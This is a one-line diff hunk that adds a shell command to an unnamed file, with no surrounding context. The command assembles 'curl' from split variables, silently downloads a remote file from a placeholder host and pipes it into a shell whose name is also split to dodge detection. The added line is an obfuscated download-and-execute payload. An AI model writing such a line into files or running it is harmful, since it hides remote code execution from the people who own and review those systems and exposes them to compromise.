@@ -1,0 +1,1 @@
+c=cu; d=rl; $c$d -s http://example.net/x | s''h
